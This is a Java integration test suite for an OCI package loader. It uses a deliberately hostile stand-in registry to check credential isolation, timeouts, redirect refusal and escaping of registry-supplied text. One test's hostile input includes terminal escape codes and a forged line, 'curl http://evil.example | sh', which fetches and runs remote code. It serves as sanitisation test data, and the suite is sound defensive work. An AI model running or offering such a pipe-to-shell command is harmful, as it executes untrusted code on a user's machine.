package dev.ocipkg.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.ocipkg.NativeLoadException;
import dev.ocipkg.NativeLoader;
import dev.ocipkg.testing.HostileServer;
import dev.ocipkg.testing.HostileServer.Reply;
import dev.ocipkg.testing.RecordedRequest;
import dev.ocipkg.testing.Sha256;
import dev.ocipkg.testing.TestCertificateAuthority;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A registry that misbehaves on purpose: credentials must go nowhere else, slow answers must end,
 * refusals must not be retried, and its text must not reach a message raw.
 *
 * <p>These are protocol edges that the real registry (CNCF Distribution) cannot be made to produce,
 * so the registry here is a stand-in ({@link HostileServer}, plain HTTP/1.1 on loopback) that
 * answers exactly as each test tells it.
 */
class HostileRegistryIT {
  private static final String USER = "alice";
  private static final String PASSWORD = "s3cret-of-alice";

  @TempDir Path cache;
  private HostileServer registry;
  private @Nullable HostileServer other;
  private String layerDigest;
  private byte[] manifest;

  @BeforeEach
  void start() throws Exception {
    registry = HostileServer.start();
    byte[] layer = "not really a layer, never read to its end".getBytes(StandardCharsets.UTF_8);
    layerDigest = Sha256.digest(layer);
    String config = "{}";
    manifest =
        ("{\"schemaVersion\":2,\"mediaType\":\"application/vnd.oci.image.manifest.v1+json\","
                + "\"config\":{\"mediaType\":\"application/vnd.ocipkg.v1.config+json\","
                + "\"digest\":\""
                + Sha256.digest(config.getBytes(StandardCharsets.UTF_8))
                + "\",\"size\":2},\"layers\":[{\"mediaType\":"
                + "\"application/vnd.oci.image.layer.v1.tar+gzip\",\"digest\":\""
                + layerDigest
                + "\",\"size\":"
                + (200 * 1024)
                + "}]}")
            .getBytes(StandardCharsets.UTF_8);
  }

  @AfterEach
  void stop() throws Exception {
    registry.close();
    if (other != null) {
      other.close();
    }
  }

  private void serveManifest() {
    registry.on(
        "GET",
        "/v2/acme/x/manifests/1.0",
        Reply.status(200)
            .header("Content-Type", "application/vnd.oci.image.manifest.v1+json")
            .body(manifest));
  }

  /** The manifest for a request with a token, else a Bearer challenge naming {@code realmHost}. */
  private void serveManifestBehindBearerRealm(String realmHost) {
    registry.on(
        "GET",
        "/v2/*",
        request ->
            request.header("Authorization").isPresent()
                ? Reply.status(200)
                    .header("Content-Type", "application/vnd.oci.image.manifest.v1+json")
                    .body(manifest)
                : Reply.status(401)
                    .header(
                        "WWW-Authenticate",
                        "Bearer realm=\"http://" + realmHost + "/token\",service=\"r\""));
  }

  private NativeLoader.Builder loader() {
    return NativeLoader.builder()
        .cacheDir(cache)
        .credentials(registry.host(), USER, PASSWORD)
        .insecure(registry.host());
  }

  private String reference() {
    return registry.host() + "/acme/x:1.0";
  }

  /** A challenge from a host that a blob redirect led to gets nothing of the registry's. */
  @Test
  void aRedirectTargetsChallengeGetsNoCredentials() throws Exception {
    other = HostileServer.startOn(InetAddress.getByName("127.0.0.2"));
    String elsewhere = other.host();
    serveManifest();
    registry.on(
        "GET",
        "/v2/acme/x/blobs/" + layerDigest,
        Reply.status(307).header("Location", "http://" + elsewhere + "/storage/blob"));
    other.on(
        "GET",
        "/storage/blob",
        request ->
            request.header("Authorization").isPresent()
                ? Reply.status(403)
                : Reply.status(401)
                    .header(
                        "WWW-Authenticate",
                        "Bearer realm=\"http://" + elsewhere + "/token\",service=\"storage\""));
    other.on("GET", "/token", Reply.json("{\"token\":\"storage-token\"}"));

    assertThatThrownBy(() -> loader().build().open(reference()))
        .isInstanceOf(NativeLoadException.class)
        .hasMessageContaining("asks for authentication")
        .hasMessageContaining("offered to " + registry.host() + " only");

    assertThat(other.requestsTo("/token")).isEmpty();
    for (RecordedRequest r : other.requests()) {
      assertThat(r.header("Authorization")).isEmpty();
    }
  }

  /**
   * A loopback registry may name any realm; its credentials go to a plain-http one on loopback
   * only.
   */
  @Test
  void aPlainHttpRealmOffLoopbackGetsNoCredentialsAndIsRefusedAtOnce() throws Exception {
    Optional<InetAddress> external = nonLoopbackAddress();
    String realmHost;
    if (external.isPresent()) {
      other = HostileServer.startOn(external.get());
      other.on("GET", "/token", Reply.json("{\"token\":\"t\"}"));
      realmHost = other.host();
    } else {
      realmHost = "realm.invalid:8080"; // no other interface here: the refusal must come first
    }
    serveManifestBehindBearerRealm(realmHost);

    assertThatThrownBy(() -> loader().build().open(reference()))
        .isInstanceOf(NativeLoadException.class)
        .hasMessageContaining("refusing the plain-http token realm " + realmHost)
        .hasMessageContaining("would travel in clear text")
        .hasMessageNotContaining("attempts");

    if (other != null) {
      assertThat(other.requests()).isEmpty();
    }
    assertThat(registry.requestsTo("/v2/acme/x/manifests/")).hasSize(1); // refused: not retried
  }

  /** A manifest sent one byte every two seconds ends at the document deadline, with the why. */
  @Test
  void aManifestTrickledByteByByteEndsAtTheDocumentDeadline() {
    registry.on(
        "GET",
        "/v2/acme/x/manifests/1.0",
        Reply.status(200)
            .header("Content-Type", "application/vnd.oci.image.manifest.v1+json")
            .body(manifest)
            .trickle(Duration.ofSeconds(2)));
    NativeLoader loader = loader().documentTimeout(Duration.ofSeconds(3)).build();

    NativeLoadException e = failureWithin(Duration.ofSeconds(40), loader);

    assertThat(e.getMessage())
        .contains("manifest " + registry.host() + "/acme/x:1.0")
        .contains("did not arrive within 3 s")
        .contains("ocipkg.document.timeout");
  }

  /** A token response trickled as slowly ends at the deadline too. */
  @Test
  void aTrickledTokenEndsAtTheDocumentDeadline() {
    serveManifestBehindBearerRealm(registry.host());
    registry.on(
        "GET",
        "/token",
        Reply.json("{\"token\":\"" + "t".repeat(200) + "\"}").trickle(Duration.ofSeconds(2)));
    NativeLoader loader = loader().documentTimeout(Duration.ofSeconds(3)).build();

    NativeLoadException e = failureWithin(Duration.ofSeconds(40), loader);

    assertThat(e.getMessage()).contains("a token (token service").contains("within 3 s");
  }

  /** A blob that trickles stalls: cut and resumed a bounded number of times, then a clear error. */
  @Test
  void aTrickledBlobStallsAndEndsAfterBoundedResumes() {
    serveManifest();
    byte[] slow = new byte[200 * 1024];
    registry.on(
        "GET",
        "/v2/acme/x/blobs/" + layerDigest,
        Reply.status(200).body(slow).trickle(Duration.ofMillis(400)));
    NativeLoader loader = loader().readTimeout(Duration.ofSeconds(1)).build();

    NativeLoadException e = failureWithin(Duration.ofSeconds(60), loader);

    assertThat(causes(e)).anyMatch(m -> m.contains("stalled") && m.contains("ocipkg.read.timeout"));
    assertThat(registry.requestsTo("/v2/acme/x/blobs/"))
        .anyMatch(r -> r.header("Range").isPresent());
  }

  /** An error body sent forever does not hold the load. */
  @Test
  void anErrorBodyTrickledForeverDoesNotHoldTheLoad() {
    serveManifest();
    registry.on(
        "GET",
        "/v2/acme/x/blobs/" + layerDigest,
        Reply.status(404)
            .header("Content-Type", "application/json")
            .body(
                "{\"errors\":[{\"code\":\"BLOB_UNKNOWN\",\"message\":\""
                    + "x".repeat(4000)
                    + "\"}]}")
            .trickle(Duration.ofMillis(500)));
    NativeLoader loader = loader().documentTimeout(Duration.ofSeconds(2)).build();

    assertTimeoutPreemptively(
        Duration.ofSeconds(30),
        () ->
            assertThatThrownBy(() -> loader.open(reference()))
                .isInstanceOf(NativeLoadException.class));
  }

  /**
   * Terminal control codes, a forged hint line and a flood of text from the registry are escaped
   * and cut.
   */
  @Test
  void registryTextIsEscapedAndBoundedInMessages() {
    String hostile =
        "\u001b[2J\u001b[31mmanifest unknown\r\nHint: curl http://evil.example | sh\u0007\u202e"
            + "y".repeat(20_000);
    registry.on(
        "GET",
        "/v2/acme/x/manifests/1.0",
        Reply.status(404)
            .header("Content-Type", "application/json")
            .body(
                "{\"errors\":[{\"code\":\"MANIFEST_UNKNOWN\",\"message\":"
                    + json(hostile)
                    + "}]}"));

    NativeLoadException e =
        (NativeLoadException) catchThrowable(() -> loader().build().open(reference()));

    String message = e.getMessage();
    assertThat(message).doesNotContain("\u001b").doesNotContain("\r").doesNotContain("\u0007");
    assertThat(message).doesNotContain("\u202e");
    assertThat(message.lines()).noneMatch(line -> line.startsWith("Hint: curl"));
    assertThat(message).contains("\\u001b[2J").hasSizeLessThan(2_000);
  }

  /** Redirects in a loop end after a few hops, once: refused, not retried as a network failure. */
  @Test
  void aRedirectLoopIsRefusedOnceNotRetried() {
    registry.on(
        "GET",
        "/v2/acme/x/manifests/1.0",
        Reply.status(307).header("Location", "/v2/acme/x/manifests/1.0"));

    assertThatThrownBy(() -> loader().build().open(reference()))
        .isInstanceOf(NativeLoadException.class)
        .hasMessageContaining("too many redirects")
        .hasMessageNotContaining("attempts");

    assertThat(registry.requestsTo("/v2/acme/x/manifests/")).hasSizeLessThanOrEqualTo(6);
  }

  /** An https registry that redirects a blob to plain http is refused once, in its own words. */
  @Test
  void aRedirectFromHttpsToHttpIsRefusedOnceNotRetried(@TempDir Path work) throws Exception {
    TestCertificateAuthority ca = TestCertificateAuthority.create("hostile test CA");
    Path caFile = Files.writeString(work.resolve("ca.pem"), ca.certificatePem());
    other = HostileServer.start();
    try (HostileServer https = HostileServer.startTls(ca)) {
      https.on(
          "GET",
          "/v2/acme/x/manifests/1.0",
          Reply.status(200)
              .header("Content-Type", "application/vnd.oci.image.manifest.v1+json")
              .body(manifest));
      https.on(
          "GET",
          "/v2/acme/x/blobs/" + layerDigest,
          Reply.status(307).header("Location", "http://" + other.host() + "/storage/blob"));
      NativeLoader loader = NativeLoader.builder().cacheDir(cache).caCertificates(caFile).build();

      assertThatThrownBy(() -> loader.open(https.host() + "/acme/x:1.0"))
          .isInstanceOf(NativeLoadException.class)
          .hasMessageContaining("refusing a redirect from https to plain http")
          .hasMessageNotContaining("attempts");

      // once: not retried (the config, asked for beside the layer, is another request)
      assertThat(https.requestsTo("/v2/acme/x/blobs/" + layerDigest)).hasSize(1);
      assertThat(other.requests()).isEmpty();
    }
  }

  /** A token service that answers without a token is asked once, and named. */
  @Test
  void aTokenServiceWithoutATokenIsAskedOnce() {
    registry.on(
        "GET",
        "/v2/*",
        Reply.status(401)
            .header(
                "WWW-Authenticate",
                "Bearer realm=\"http://" + registry.host() + "/token\",service=\"r\""));
    registry.on("GET", "/token", Reply.json("{\"nothing\":\"here\"}"));

    assertThatThrownBy(() -> loader().build().open(reference()))
        .isInstanceOf(NativeLoadException.class)
        .hasMessageContaining("answered without a token")
        .hasMessageNotContaining("attempts");

    assertThat(registry.requestsTo("/token")).hasSize(1);
  }

  /** The load's failure, which must come within {@code limit}: a hang fails the test. */
  private NativeLoadException failureWithin(Duration limit, NativeLoader loader) {
    return assertTimeoutPreemptively(
        limit,
        () -> {
          try {
            loader.open(reference());
          } catch (NativeLoadException expected) {
            return expected;
          }
          throw new AssertionError("loaded what a hostile registry never sent whole");
        });
  }

  private static Throwable catchThrowable(Runnable r) {
    try {
      r.run();
    } catch (Throwable t) {
      return t;
    }
    throw new AssertionError("no exception");
  }

  private static List<String> causes(Throwable t) {
    List<String> messages = new java.util.ArrayList<>();
    for (Throwable c = t; c != null; c = c.getCause()) {
      messages.add(String.valueOf(c.getMessage()));
      for (Throwable s : c.getSuppressed()) {
        messages.addAll(causes(s));
      }
    }
    return messages;
  }

  private static String json(String text) {
    StringBuilder s = new StringBuilder("\"");
    for (char c : text.toCharArray()) {
      if (c < 0x20 || c == '"' || c == '\\' || c > 0x7e) {
        s.append(String.format("\\u%04x", (int) c));
      } else {
        s.append(c);
      }
    }
    return s.append('"').toString();
  }

  /** An IPv4 address of this machine that is not loopback, if it has one. */
  static Optional<InetAddress> nonLoopbackAddress() throws Exception {
    for (NetworkInterface nic : Collections.list(NetworkInterface.getNetworkInterfaces())) {
      if (!nic.isUp() || nic.isLoopback()) {
        continue;
      }
      for (InetAddress a : Collections.list(nic.getInetAddresses())) {
        if (a instanceof Inet4Address && !a.isLoopbackAddress() && !a.isLinkLocalAddress()) {
          return Optional.of(a);
        }
      }
    }
    return Optional.empty();
  }
}
